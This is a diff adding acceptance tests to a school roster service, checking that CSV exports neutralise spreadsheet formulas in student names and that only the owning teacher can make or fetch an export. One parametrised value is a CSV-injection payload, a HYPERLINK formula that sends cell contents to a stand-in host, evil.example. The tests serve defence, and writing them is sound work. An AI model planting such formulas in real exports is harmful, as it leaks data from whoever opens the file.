@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 
 from tests.acceptance.seatline import Client
@@ -113,6 +116,46 @@ async def test_a_teacher_gets_the_roster_of_their_own_sections_only_and_every_lo
         ("roster.read", f"section:{own}"),
         ("roster.refused", f"section:{others}"),
     ]
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1", "@SUM(1)", "\t=1", "\r=1"]
+)
+async def test_a_name_that_is_a_formula_is_not_run_by_whoever_opens_the_export(
+    campus: PostgresWorld, attacker: Client, eve: Person, name: str
+) -> None:
+    teacher = await add_person(campus, attacker, "teacher")
+    own = await campus.add_section(5)
+    await campus.connection.execute("UPDATE course_sections SET teacher_id = $2 WHERE id = $1", own, teacher.role_id)
+    await campus.connection.execute("UPDATE users SET name = $2 WHERE id = $1", eve.user_id, name)
+    assert (await enroll(attacker, eve, own)).status == 201
+
+    made = await attacker.request("POST", f"/api/sections/{own}/roster-exports", teacher.token)
+    assert made.status == 201, made.body
+    had = await attacker.request("GET", made.body["url"], teacher.token)
+
+    header, row = csv.reader(io.StringIO(had.body.decode(), newline=""))
+    assert row[header.index("name")] == f"'{name}"
+    assert await audited(campus, teacher) == [
+        ("roster.export", f"section:{own}"),
+        ("roster.download", f"export:{made.body['url'].rpartition('/')[2]}"),
+    ]
+
+
+async def test_an_export_is_made_and_had_by_its_own_teacher_alone(
+    campus: PostgresWorld, attacker: Client, eve: Person
+) -> None:
+    teacher, other = await add_person(campus, attacker, "teacher"), await add_person(campus, attacker, "teacher")
+    own = await campus.add_section(5)
+    await campus.connection.execute("UPDATE course_sections SET teacher_id = $2 WHERE id = $1", own, teacher.role_id)
+    path = f"/api/sections/{own}/roster-exports"
+    url = (await attacker.request("POST", path, teacher.token)).body["url"]
+
+    tried = [await attacker.request("POST", path, one) for one in (eve.token, other.token, None)]
+    read = [await attacker.request("GET", url, one) for one in (eve.token, other.token, None)]
+
+    assert [one.status for one in tried] == [403, 403, 401]
+    assert [one.status for one in read] == [403, 404, 401]
 
 
 async def test_what_an_administrator_does_is_kept(campus: PostgresWorld, attacker: Client) -> None:
